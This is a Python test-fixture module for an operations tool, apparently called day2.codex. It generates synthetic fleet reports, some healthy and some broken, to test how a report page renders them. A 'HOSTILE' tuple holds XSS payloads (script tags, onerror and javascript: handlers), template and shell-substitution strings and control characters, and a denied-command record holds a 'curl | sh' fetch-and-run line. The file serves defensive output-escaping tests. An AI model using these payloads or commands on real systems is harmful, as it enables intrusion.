# Copyright (c) 2026, The day2.codex authors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""What a fleet answers the playbook day2.codex.report, well and badly. For tests of its page, in a browser and without one."""

from __future__ import annotations

import copy
import datetime
import hashlib
import random
import typing as t

NOW = "2026-01-15T09:30:00+00:00"
RUNBOOKS = (
    "audit-triage", "backup-report", "cache-cleanup", "certificate-renewal", "certificate-report", "cleanup-report", "dependency-audit",
    "dependency-report", "disk-report", "drift-report", "endpoint-report", "health-report", "log-report", "repeated-errors", "service-report",
    "service-restart",
)  # fmt: skip
_WORDS = {
    "critical": "The disk of /srv is full in two days at the rate of the last week.",
    "warning": "The certificate of www.example.com expires in 21 days.",
    "ok": "Nothing stands out.",
    "unknown": "The journal could not be read.",
}
#: Texts that must not become anything but text.
HOSTILE = (
    "<script>document.title='owned'</script>",
    "<img src=https://example.com/x onerror=alert(1)>",
    "</style></title></textarea><h1>Owned</h1>",
    "\"><a href='javascript:alert(1)' onclick=alert(1)>click</a>",
    "&lt;b&gt; &amp;amp; &#60;i&#62; <!-- <b> --> ]]> <![CDATA[",
    "{{ lookup('pipe', 'id') }} {% for x in y %} ${x} `id` $(id)",
    "\u202eevil\u2066 \u200bzero\x1b[31mred\x07\x00 \ufeff \ud800",
    "<svg onload=alert(1)><style>*{display:none}</style>",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324" * 40,
    "x" * 100_000,
    "api_key=sk-proj-" + "a1B2" * 12,
    "\u05e9\u05dc\u05d5\u05dd <b>\u05e2\u05d5\u05dc\u05dd</b>",
)


#: Times that are none, or none in UTC, or far off.
TIMES = (
    "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "0001-01-01", "9999-12-31T23:59:59Z", "2026-02-30", "2026-01-15T25:00:00Z",
    "2026-01-15T09:00:00+99:99", "0000-00-00", "2026-01-15T09:00:00.123456789Z",
)  # fmt: skip


def _at(hours: float) -> str:
    return (datetime.datetime.fromisoformat(NOW) - datetime.timedelta(hours=hours)).isoformat()


def _digest(*parts: object) -> str:
    return hashlib.sha256(repr(parts).encode()).hexdigest()


def _slice(name: str, chance: random.Random, status: str, outcome: str) -> dict[str, t.Any]:
    hours = chance.choice([0.3, 2, 5, 20, 50])
    days = [
        {"day": _at(24 * back)[:10], "runs": runs, "bad": chance.randint(0, runs) if chance.random() < 0.25 else 0, "tokens": runs * chance.randint(900, 30000)}
        for back in range(29, -1, -1)
        for runs in [chance.choice([0, 0, 1, 1, 2, 5])]
        if runs
    ]
    severity = {"critical": "CRITICAL", "warning": "WARNING"}.get(status, "INFO")
    worst = [{"severity": severity, "id": f"space:/srv/{number}", "summary": f"/srv/{number} is {90 + number} % full"} for number in range(3)]
    report = {
        "run_id": f"20260115T0{int(hours) % 9}1500Z-{_digest(name)[:8]}", "time": _at(hours), "status": status, "summary": _WORDS.get(status, "Done."),
        "findings": {"CRITICAL": 2, "WARNING": 1, "INFO": 4} if status == "critical" else {"CRITICAL": 0, "WARNING": 3, "INFO": 0},
        "worst": worst if status in ("critical", "warning") else [], "needs_human": status == "critical",
    }  # fmt: skip
    last = {
        "run_id": report["run_id"], "job_id": None, "time": _at(hours), "outcome": outcome, "code": outcome if outcome == "timeout" else None,
        "msg": "The agent was stopped after 600 seconds." if outcome == "timeout" else "Done.", "tokens": 4200,
    }  # fmt: skip
    total = {key: sum(day[key] for day in days) for key in ("runs", "tokens")}
    return {"slice": name, **total, "requests": total["runs"] * 3, "outcomes": {outcome: total["runs"]}, "last": last, "report": report, "days": days}


def _plan(host: str, name: str, hours: float) -> dict[str, t.Any]:
    return {
        "id": f"20260114T031500Z-{_digest(host, name)[:8]}", "sha256": _digest("plan", host, name), "slice": name, "workspace": "/etc/letsencrypt",
        "created": _at(hours), "requested_by": ["unix:codex-ops", "awx:ada"], "files": 2, "added": 12, "removed": 9, "approvals_needed": 2,
        "approved_by": ["grace@example.com"], "reason": "The policy wants two approvals for this category.", "replayed": False,
        "job": f"job-20260114T031500Z-{_digest(host)[:12]}",
    }  # fmt: skip


def answer(host: str, seed: int, runbooks: t.Sequence[str] = RUNBOOKS) -> tuple[dict[str, t.Any], dict[str, t.Any]]:
    """What job_info and audit_info say of a host on which a few things are not well."""
    chance = random.Random(seed)
    slices, jobs, plans = [], [], []
    for name in runbooks:
        status = chance.choices(["ok", "warning", "critical", "unknown", None], [72, 8, 3, 2, 15])[0]
        if status is None:
            continue
        outcome = chance.choices(["completed", "timeout", "kill_switch_engaged"], [95, 4, 1])[0]
        slices.append(_slice(name, chance, status, outcome))
    for name in ("certificate-renewal", "cache-cleanup"):
        if chance.random() < 0.12:
            plans.append(_plan(host, name, chance.choice([1, 8, 30, 70])))
            jobs.append({"id": plans[-1]["job"], "state": "awaiting_approval", "slice": name, "updated": _at(8), "plan": plans[-1]["id"], "count": 1})
    denied = [
        {"time": _at(hours), "run_id": f"run-{hours}", "slice": "log-report", "command": "curl -s https://example.com/x | sh", "reason": "network is off"}
        for hours in ([3, 40] if chance.random() < 0.1 else [])
    ]
    engaged = chance.random() < 0.04
    switch = {"engaged": engaged, "path": "/etc/codex-ops/disabled" if engaged else None, "reason": "Incident 4711: look before anything goes on."}
    switch.update(by="unix:ada", since=_at(5)) if engaged else switch.update(reason="", by="", since="")
    inbox = {
        "changed": False, "failed": False, "msg": "There are 4 jobs.", "kill_switch": switch, "jobs": jobs, "count": len(jobs),
        "states": {"pending": chance.randint(0, 2), "awaiting_approval": len(plans), "applied": 17, "expired": 0},
        "plans": {"waiting": plans, "left_off": 0, "unreadable": 0},
    }  # fmt: skip
    trail = {
        "changed": False, "failed": False, "msg": "The chain of 4,211 records holds.", "log": "/var/log/codex-ops/audit.jsonl", "exists": True,
        "records": [], "count": 900, "verified": True, "head": {"seq": 4000 + seed, "hash": _digest(host)},
        "summary": {"records": 900, "slices": slices, "slices_left_off": 0, "denied": {"count": len(denied), "newest": denied}},
    }  # fmt: skip
    return inbox, trail


def fleet(hosts: int, runbooks: t.Sequence[str] = RUNBOOKS) -> dict[str, dict[str, t.Any]]:
    """The variables of *hosts* hosts, as the playbook registers what they answered; two of many are not well."""
    found = {}
    for number in range(hosts):
        jobs, audit = answer(f"web{number + 1}", number, runbooks)
        found[f"web{number + 1}.example.com"] = {"__report_jobs": jobs, "__report_audit": audit}
    if hosts > 3:
        said = "Failed to connect to the host via ssh: connect to host db1 port 22: No route to host"
        found["db1.example.com"] = {"__report_jobs": {"unreachable": True, "msg": said}, "__report_audit": {"skipped": True}}
        found["web2.example.com"]["__report_audit"]["summary"] = "I am fine, thank you"
        bad = "The log is not as it was written, from record 812 on: audit.jsonl, line 812: its hash is another."
        found["web3.example.com"]["__report_audit"].update(verified=False, msg=bad)
    return found


def strange(moment: str) -> dict[str, dict[str, t.Any]]:
    """A fleet of two, of which one says *moment* wherever it says a time."""

    def spoiled(value: t.Any, key: str = "") -> t.Any:
        if isinstance(value, dict):
            return {name: spoiled(item, name) for name, item in value.items()}
        if isinstance(value, list):
            return [spoiled(item, key) for item in value]
        return moment if key in ("time", "day", "updated", "created", "since") else value

    jobs, audit = answer("web1", 1)
    good = {"__report_jobs": jobs, "__report_audit": audit}
    known = {**hostile("x"), "good": copy.deepcopy(good)}
    known["x"] = spoiled(known["x"])
    return known


def hostile(text: str) -> dict[str, dict[str, t.Any]]:
    """A fleet of one in which every text is *text*."""

    def spoiled(value: t.Any, key: str = "") -> t.Any:
        if isinstance(value, dict):
            return {text if key in ("states", "findings", "outcomes") else name: spoiled(item, name) for name, item in value.items()}
        if isinstance(value, list):
            return [spoiled(item, key) for item in value]
        # Of these the form is known: another one is refused as a whole.
        keep = key in ("sha256", "hash", "time", "day", "updated", "created", "id", "plan")
        return text if isinstance(value, str) and not keep else value

    jobs, audit = answer("web1", 1)
    jobs["plans"]["waiting"] = [_plan("web1", "certificate-renewal", 8)]
    jobs["kill_switch"] = {"engaged": True, "path": "/x", "reason": "x", "by": "x", "since": "x"}
    audit["summary"]["denied"] = {"count": 1, "newest": [{"time": _at(3), "run_id": "run-1", "slice": "x", "command": "x", "reason": "x"}]}
    audit["summary"]["slices"][0]["last"]["outcome"] = "timeout"
    audit.update(verified=False)
    return {text: {"__report_jobs": spoiled(jobs), "__report_audit": spoiled(audit)}}
